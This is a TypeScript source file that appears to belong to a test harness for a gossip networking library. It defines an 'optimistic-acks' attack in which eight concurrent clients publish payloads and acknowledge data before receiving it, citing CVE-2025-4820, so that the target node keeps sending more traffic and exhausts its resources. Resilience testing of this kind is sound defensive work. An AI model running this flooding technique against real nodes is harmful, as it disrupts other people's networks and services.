import { randomBytes } from 'node:crypto';
import { GOSSIP_ALPN } from '@grapevine/net';
import { defaultHash, messageIdFromBytes, topicIdToBytes } from '@grapevine/proto';
import type { Attack, Field } from '../attack.js';
import { freshHost } from '../frame-flood.js';
import { frame, message } from '../raw-peer.js';

const CLIENTS = 8;
/** A one-way stream of the client. */
const STREAM = 2;
/** Payloads that each publishes, so that the others are sent them, and their bytes. */
const PAYLOADS = 40;
const LENGTH = 1_000;

/** Neighbors that read nothing, and acknowledge everything before it can have come (CVE-2025-4820), so that they are sent more and more. */
export const optimisticAcks: Attack = {
  name: 'optimistic-acks',
  what: 'neighbors that acknowledge what they have not received, and publish for each other',
  standing: 'neighbor',
  // Payloads of a neighbor are what a node is for: they are delivered and passed on, whatever that costs.
  limits: { cpuMsPerMegabyte: 2_000 },
  async run(field) {
    let made = 0;
    const again = async () => {
      while (!field.signal.aborted) await one(field, freshHost(made++)).catch(() => field.pause(100));
    };
    await Promise.all(Array.from({ length: CLIENTS }, again));
  },
};

async function one({ kit, target, topic, traffic, signal, pause }: Field, host: string): Promise<void> {
  await using client = await kit.connect(target.socket, { alpn: GOSSIP_ALPN, host });
  traffic.strangers = Math.min(CLIENTS, traffic.strangers + 1);
  let [sent, received] = [0, 0];
  let offset = 0;
  const say = (bytes: Uint8Array) => {
    client.send(kit.frames.stream(STREAM, offset, bytes), kit.frames.ack(1_000 + offset, 1_000 + offset));
    offset += bytes.length;
  };
  say(frame(topicIdToBytes(topic)));
  say(message({ type: 'join', data: undefined }));
  for (let i = 0; !signal.aborted && client.closeCode === undefined; i++) {
    if (i < PAYLOADS) say(payload());
    else client.send(kit.frames.ack(1_000 + offset + i, 1_000 + offset + i));
    traffic.sent += client.sent - sent;
    traffic.received += client.received - received;
    [sent, received] = [client.sent, client.received];
    await pause(10);
  }
}

function payload(): Uint8Array {
  const content = randomBytes(LENGTH).fill(0, 0, 8);
  const id = messageIdFromBytes(defaultHash(content));
  return message({ type: 'gossip', id, content, scope: { type: 'swarm', round: 1 } });
}
